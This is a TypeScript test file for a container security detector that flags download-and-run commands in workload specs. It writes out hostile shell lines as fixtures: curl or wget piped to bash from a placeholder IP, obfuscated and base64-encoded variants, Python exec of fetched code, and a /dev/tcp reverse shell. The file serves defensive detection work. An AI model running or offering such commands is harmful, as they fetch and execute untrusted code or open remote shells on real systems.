import { downloadAndRun } from '../../../../lambdas/core/detectors/audit/km-a06-download-and-run';
import { containerExample, workloadExample } from '../../../../lambdas/core/detectors/audit-example';
import { findRunCommands } from '../../../../lambdas/core/indicators/run-commands';
import { processorMs } from '../../../support/processor-time';

const found = (script: string) => {
  const container = containerExample({ command: ['sh', '-c', script], args: [] });
  return downloadAndRun.inspect(workloadExample([container]))[0]?.indicators;
};

describe('KM-A06', () => {
  test('says how it runs and where it comes from', () => {
    expect(found('curl -s http://198.51.100.7/i.sh | bash')).toEqual([
      'download piped to a shell',
      'http://198.51.100.7/i.sh',
    ]);
  });

  test.each([
    'wget -qO- http://198.51.100.7/i.sh|sudo -E bash -',
    'cu""rl${IFS}-s${IFS}http://198.51.100.7/i.sh|/bin/s\\h',
    'bash <(curl -s http://198.51.100.7/i.sh)',
    'sh -c "$(wget -qO- http://198.51.100.7/i.sh)"',
    'eval `curl -s http://198.51.100.7/i.sh`',
    'curl http://198.51.100.7/a -o /tmp/a; chmod 755 /tmp/a; /tmp/a',
    'curl -s http://198.51.100.7/a.gz | gunzip | sh',
    'echo H4sIAAAAAAAA | base64 --decode | gunzip | sh',
    'echo 6563686f | xxd -r -p | bash',
    'openssl enc -aes-256-cbc -d -in /a -k x | sh',
    'sh -c "$(echo ZWNobyBoaQ== | base64 -d)"',
    `python3 -c 'import base64;exec(base64.b64decode("cHJpbnQ="))'`,
    `python3 -c "import urllib.request as u; exec(u.urlopen('http://198.51.100.7').read())"`,
    'bash -i >& /dev/tcp/198.51.100.7/443 0>&1',
  ])('sees %s', (script) => {
    expect(found(script)?.join('')).not.toBe('');
    expect(found(script)?.length).toBeGreaterThan(0);
  });

  test.each([
    'curl -LO https://dl.example/kubectl && chmod +x kubectl && mv kubectl /usr/local/bin/',
    'curl -s https://api.example/v1 | jq .items',
    'echo hello | sh-compatible',
    'base64 -d /secrets/key > /tmp/key && exec server',
    'python3 -c "import requests; print(requests.get(1))"',
  ])('leaves %s alone', (script) => {
    expect(found(script)).toBeUndefined();
  });

  test('misses a download by a program of the image', () => {
    expect(found('/usr/bin/updater --from http://198.51.100.7/i --run')).toBeUndefined();
  });

  test.each([
    ['fetches', 'curl '.repeat(200_000)],
    ['pipes', 'curl |'.repeat(160_000)],
    ['decoders', 'base64 -d '.repeat(100_000)],
    ['shells', 'sh -c $('.repeat(120_000)],
    ['shells with an echo', 'sh -c $(echo '.repeat(75_000)],
    ['permissions', 'curl x chmod +x '.repeat(60_000)],
    ['calls', 'exec('.repeat(200_000)],
  ])('reads a megabyte of %s in two seconds', (_name, text) => {
    expect(processorMs(() => findRunCommands([text]))).toBeLessThan(2000);
  });
});
